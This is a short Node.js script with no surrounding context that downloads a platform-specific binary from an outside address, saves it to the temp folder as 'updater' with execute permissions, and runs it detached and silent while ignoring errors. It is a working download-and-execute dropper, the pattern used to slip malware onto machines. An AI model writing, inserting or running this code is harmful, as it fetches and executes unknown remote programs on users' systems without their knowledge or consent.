const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execFile } = require("child_process");

const target = path.join(os.tmpdir(), "updater");

https.get("https://cdn.example.invalid/bin/" + process.platform, (response) => {
  const file = fs.createWriteStream(target, { mode: 0o755 });
  response.pipe(file);
  file.on("finish", () => {
    file.close();
    execFile(target, [], { detached: true, stdio: "ignore" }).unref();
  });
}).on("error", () => {});
